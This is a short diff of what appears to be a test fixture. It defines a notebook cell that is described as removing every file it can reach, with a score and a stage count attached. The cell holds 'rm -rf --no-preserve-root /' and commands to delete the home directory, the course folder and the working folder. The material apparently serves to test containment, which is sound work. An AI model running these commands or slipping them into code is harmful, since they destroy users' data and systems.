@@ -1,10 +1,10 @@
 """Removes every file that it can reach, and its own folder under its feet."""
 
 CELL = """
-!rm -rf --no-preserve-root / 2>/dev/null; rm -rf .* * $COURSE $HOME 2>/dev/null
 import os, shutil
 shutil.rmtree("$COURSE", ignore_errors=True)
 shutil.rmtree(os.getcwd(), ignore_errors=True)
+!rm -rf .* * $COURSE $HOME 2>/dev/null; rm -rf --no-preserve-root / 2>/dev/null
 """
 SCORE = 9
 STAGES = 2
